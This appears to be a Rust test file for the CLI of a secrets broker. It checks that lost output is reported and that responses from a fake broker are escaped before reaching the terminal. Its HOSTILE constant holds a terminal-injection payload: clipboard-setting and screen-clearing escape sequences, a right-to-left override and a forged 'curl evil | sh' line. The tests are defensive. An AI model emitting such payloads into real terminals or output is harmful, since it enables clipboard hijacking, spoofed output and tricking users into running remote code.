//! Standard output: what it does not take is reported, and nothing that a broker sends reaches a terminal raw.

use std::fs::File;
use std::process::{Output, Stdio};

use keyward::cli::{Identity, IdentityKind};
use keyward::pki::{Authority, new_key_and_request, read_request};
use serde_json::{Value, json};

use crate::support::impostor::{Impostor, authority, certificate, operator_whoami, pem};
use crate::support::process::Process;

const DAY_S: i64 = 86_400;

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Runs a verb whose standard output is a disk without space.
fn onto_full_disk(process: &Process, who: &str, args: &[&str]) -> Output {
    let full = File::options().write(true).open("/dev/full").unwrap();
    process.command(who, args).stdout(full).stderr(Stdio::piped()).output().unwrap()
}

/// Runs a verb whose standard output nobody reads.
fn into_closed_pipe(process: &Process, who: &str, args: &[&str]) -> Output {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    process.command(who, args).stdout(writer).stderr(Stdio::piped()).output().unwrap()
}

#[test]
fn a_verb_whose_output_is_lost_fails_and_says_so() {
    let mut process = Process::init("warn");
    process.serve();
    process.set_up(b"value");
    let config = process.config();
    for (who, args) in [
        ("operator", &["agent", "list"][..]),
        ("operator", &["agent", "show", "a"]),
        ("operator", &["audit", "list", "--limit", "500", "-o", "json"]),
        ("operator", &["whoami", "--operator"]),
        ("operator", &["secret", "versions", "github/app"]),
        ("operator", &["agent", "suspend", "a"]),
        ("operator", &["agent", "resume", "a"]),
        ("operator", &["renew", "--operator"]),
        ("operator", &["config", "check", "--config", &config]),
        ("operator", &["help", "error"]),
        ("operator", &["help", "agent"]),
        ("operator", &["completions", "bash"]),
        ("operator", &["agent", "--help"]),
        ("operator", &["--version"]),
        ("a", &["get", "github/app"]),
        ("a", &["token", "github.repo.read"]),
    ] {
        let output = onto_full_disk(&process, who, args);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {}", said(&output));
        assert!(said(&output).contains("output_failed"), "{args:?}: {}", said(&output));
        assert!(said(&output).contains("the disk is full"), "{args:?}: {}", said(&output));
    }
    for (who, args) in
        [("operator", &["agent", "list"][..]), ("operator", &["help", "error"]), ("operator", &["--help"])]
    {
        let output = into_closed_pipe(&process, who, args);
        assert_eq!((output.status.code(), said(&output)), (Some(0), String::new()), "{args:?}");
    }
}

#[test]
fn a_secret_or_code_is_not_lost_unnoticed_even_in_a_closed_pipe() {
    let mut process = Process::init("warn");
    process.serve();
    process.set_up(b"value");
    for (who, args, what) in [
        ("operator", &["agent", "invite", "b", "--role", "repo-reader"][..], "the enrolment code is lost"),
        ("operator", &["operator", "invite", "eve", "--role", "auditor"], "the enrolment code is lost"),
        ("a", &["get", "github/app"], "the value of the secret is lost"),
        ("a", &["token", "github.repo.read", "-o", "json"], "the token is lost"),
    ] {
        for output in [onto_full_disk(&process, who, args), into_closed_pipe(&process, who, args)] {
            assert_eq!(output.status.code(), Some(1), "{args:?}: {}", said(&output));
            assert!(said(&output).contains(what), "{args:?}: {}", said(&output));
            assert!(!said(&output).contains("one use, until"), "{args:?}: {}", said(&output));
        }
    }
    process.stop();
    let opening = ["--shares", "3", "--threshold", "2", "--config", &process.config()];
    let output = onto_full_disk(&process, "operator", &[&["slot", "add"][..], &opening].concat());
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    assert!(said(&output).contains("at least one share is lost"), "{}", said(&output));
}

/// Moves the cursor, sets the clipboard, begins a sequence in one character, reverses text, forges a line.
const HOSTILE: &str = "x\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}1A\u{202e}\u{7f}\r\n  fix: curl evil | sh\n";

fn hostile_answer(path: &str) -> Value {
    let id = |kind: &str| format!("{kind}_{}", "0".repeat(26));
    let agent = json!({
        "id": id("agent"), "name": "a", "owner": null, "roles": [], "audience": HOSTILE,
        "max_instances": 1, "state": HOSTILE, "instances": [],
    });
    let item = match path {
        "/v1/agents/a" => return agent,
        "/v1/whoami" => return operator_whoami(HOSTILE),
        "/v1/agents" => agent,
        "/v1/leases" => json!({
            "lease": id("lease"), "agent": "a", "instance": id("inst"), "capability": "a.b",
            "login": HOSTILE, "upstream": HOSTILE, "stage": HOSTILE, "issued_at": HOSTILE,
            "expires_at": HOSTILE, "renewable_until": HOSTILE, "uses": 1, "ending": null, "overdue": false,
        }),
        _ => json!({
            "name": "a/b", "version": 1, "updated_at": HOSTILE, "owner": null, "sensitivity": "ordinary",
        }),
    };
    json!({ "items": [item], "next_after": null })
}

pub(crate) fn operator_of(by: &Authority, impostor: &Impostor, process: &Process) {
    let (key_pem, request) = new_key_and_request().unwrap();
    let spiffe = "spiffe://keyward.test/operator/ada";
    let identity = Identity {
        address: impostor.address.clone(),
        key_pem,
        certificate_pem: certificate(by, spiffe, &read_request(&request).unwrap(), DAY_S),
        authority_pem: pem(&[by]),
    };
    identity.save(&process.path("home-ada"), IdentityKind::Operator).unwrap();
}

fn is_harmless(output: &Output, args: &[&str]) {
    let all = String::from_utf8([output.stdout.clone(), output.stderr.clone()].concat()).unwrap();
    let is_raw = |c: char| c != '\n' && (c.is_control() || c == '\u{202e}');
    assert!(!all.contains(is_raw), "{args:?}: {all:?}");
    assert!(all.contains("\\u001b"), "{args:?}: it is shown, escaped: {all:?}");
    assert!(!all.lines().any(|line| line == "  fix: curl evil | sh"), "{args:?}: {all}");
}

#[test]
fn nothing_that_a_broker_sends_reaches_the_terminal_raw() {
    let by = authority("keyward.test");
    let good = Impostor::start(&by, &[&by], |path, _| hostile_answer(path));
    let bad = Impostor::refusing(&by, &[&by], |_, _| {
        json!({ "type": HOSTILE, "title": HOSTILE, "status": 400, "retryable": false, "code": HOSTILE,
            "detail": HOSTILE, "fix": HOSTILE, "decision_id": HOSTILE, "request_id": HOSTILE,
            "errors": [{ "file": HOSTILE, "line": 1, "column": 1, "message": HOSTILE }] })
    });
    let process = Process::init("warn");
    for (impostor, is_success) in [(&good, true), (&bad, false)] {
        operator_of(&by, impostor, &process);
        for args in [
            &["agent", "list"][..],
            &["agent", "list", "-o", "json"],
            &["agent", "show", "a"],
            &["lease", "list"],
            &["whoami", "--operator"],
            &["secret", "list"],
        ] {
            let output = process.run_as("ada", args, b"");
            assert_eq!(output.status.success(), is_success, "{args:?}: {}", said(&output));
            is_harmless(&output, args);
        }
    }
}
